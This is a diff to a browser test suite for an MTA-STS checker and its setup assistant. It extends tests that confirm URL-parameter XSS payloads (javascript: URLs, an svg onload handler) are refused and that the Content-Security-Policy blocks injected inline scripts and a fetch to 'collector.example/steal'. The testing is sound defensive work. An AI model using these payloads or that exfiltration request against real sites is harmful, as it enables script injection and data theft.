@@ -432,25 +432,33 @@ test('injection: markup pasted into the policy editor is shown as text', async (
   await finish(t);
 });
 
+// The checker's `?domain=`, the assistant page's, and the old `?setup=`, which the checker
+// forwards to the assistant page.
 const addressPayloads = [
-  ['domain', 'javascript:window.__pwned=1'],
-  ['domain', 'javascript:alert(1)'],
-  ['domain', SCRIPT],
-  ['domain', `"><svg onload=alert(1)>`],
-  ['setup', 'javascript:alert(1)'],
-  ['setup', SCRIPT],
-  ['setup', IMG],
-  ['domain', `${'a'.repeat(10_000)}.example`],
+  ['?domain=', 'javascript:window.__pwned=1'],
+  ['?domain=', 'javascript:alert(1)'],
+  ['?domain=', SCRIPT],
+  ['?domain=', `"><svg onload=alert(1)>`],
+  ['setup/?domain=', 'javascript:alert(1)'],
+  ['setup/?domain=', SCRIPT],
+  ['setup/?domain=', IMG],
+  ['?setup=', SCRIPT],
+  ['?setup=', IMG],
+  ['?domain=', `${'a'.repeat(10_000)}.example`],
 ];
 
 for (const [param, payload] of addressPayloads) {
-  test(`injection: ?${param}=${payload.slice(0, 40)} is refused as input, nothing runs (within 3 s)`, async () => {
-    const t = await open({ path: `?${param}=${encodeURIComponent(payload)}` });
+  test(`injection: ${param}${payload.slice(0, 40)} is refused as input, nothing runs (within 3 s)`, async () => {
+    const t = await open({ path: `${param}${encodeURIComponent(payload)}` });
     const error = t.page.locator('[data-input-error]');
     await error.waitFor({ timeout: SLACK_MS });
     assert.ok((await error.textContent()).trim().length > 10, 'a reason is given');
     assert.equal(await t.page.locator('[data-report]').count(), 0, 'no report');
-    if (param === 'domain') {
+    assert.equal(await t.page.locator('[data-setup]').count(), 0, 'no assistant');
+    if (param === '?setup=') {
+      assert.equal(new URL(t.page.url()).pathname, '/mta-sts-checker/setup/', 'forwarded');
+    }
+    if (param === '?domain=') {
       assert.equal(await t.page.locator('input[name=domain]').inputValue(), payload,
         'the input shows the text as it was, as text');
     }
@@ -462,46 +470,50 @@ for (const [param, payload] of addressPayloads) {
   });
 }
 
-test('the CSP is in force: an injected inline script does not run', async () => {
-  const t = await open({ path: '' });
-  await t.page.locator('form input[name=domain]').waitFor();
-  const csp = await t.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
-  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
-  const violation = t.page.evaluate(() => new Promise((resolve) => {
-    document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
-    setTimeout(() => resolve(null), 2000);
-  }));
-  await t.page.evaluate(() => {
-    const s = document.createElement('script');
-    s.textContent = 'window.__pwned = 1';
-    document.body.append(s);
+// Both pages carry the same CSP; the assistant page is opened without a domain, so it only waits.
+const cspPages = [['checker', '', 'form input[name=domain]'], ['assistant', 'setup/', '[data-input-error]']];
+for (const [name, path, ready] of cspPages) {
+  test(`the CSP is in force on the ${name} page: an injected inline script does not run`, async () => {
+    const t = await open({ path });
+    await t.page.locator(ready).waitFor();
+    const csp = await t.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
+    const violation = t.page.evaluate(() => new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+      setTimeout(() => resolve(null), 2000);
+    }));
+    await t.page.evaluate(() => {
+      const s = document.createElement('script');
+      s.textContent = 'window.__pwned = 1';
+      document.body.append(s);
+    });
+    assert.match(await violation ?? '', /^script-src/, 'a securitypolicyviolation event fired');
+    assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 0, 'the inline script did not run');
+    // The same for an inline event handler.
+    await t.page.evaluate(() => {
+      const b = document.createElement('button');
+      b.setAttribute('onclick', 'window.__pwned = 1');
+      document.body.append(b);
+      b.click();
+      b.remove();
+    });
+    assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 0, 'the inline handler did not run');
+    // connect-src: a page script may not talk to any other host over plain http.
+    const refused = t.page.evaluate(() => new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+      setTimeout(() => resolve(null), 2000);
+    }));
+    const fetched = await t.page.evaluate(() =>
+      fetch('http://collector.example/steal').then(() => 'sent', (e) => `refused: ${e.message}`));
+    assert.match(fetched, /^refused/);
+    assert.equal(await refused, 'connect-src', 'connect-src refused the request');
+    assert.deepEqual(t.outside, [], 'the request never left the page');
+    // The trap itself works: a write from outside the page's content is seen.
+    await t.page.evaluate(() => { window.__pwned = 1; });
+    assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 1, 'the trap counts writes');
+    await t.context.close();
   });
-  assert.match(await violation ?? '', /^script-src/, 'a securitypolicyviolation event fired');
-  assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 0, 'the inline script did not run');
-  // The same for an inline event handler.
-  await t.page.evaluate(() => {
-    const b = document.createElement('button');
-    b.setAttribute('onclick', 'window.__pwned = 1');
-    document.body.append(b);
-    b.click();
-    b.remove();
-  });
-  assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 0, 'the inline handler did not run');
-  // connect-src: a page script may not talk to any other host over plain http.
-  const refused = t.page.evaluate(() => new Promise((resolve) => {
-    document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
-    setTimeout(() => resolve(null), 2000);
-  }));
-  const fetched = await t.page.evaluate(() =>
-    fetch('http://collector.example/steal').then(() => 'sent', (e) => `refused: ${e.message}`));
-  assert.match(fetched, /^refused/);
-  assert.equal(await refused, 'connect-src', 'connect-src refused the request');
-  assert.deepEqual(t.outside, [], 'the request never left the page');
-  // The trap itself works: a write from outside the page's content is seen.
-  await t.page.evaluate(() => { window.__pwned = 1; });
-  assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 1, 'the trap counts writes');
-  await t.context.close();
-});
+}
 
 // ---------------------------------------------------------------------------------------------
 // 4. Input that is no domain: a clear reason, and no lookup.
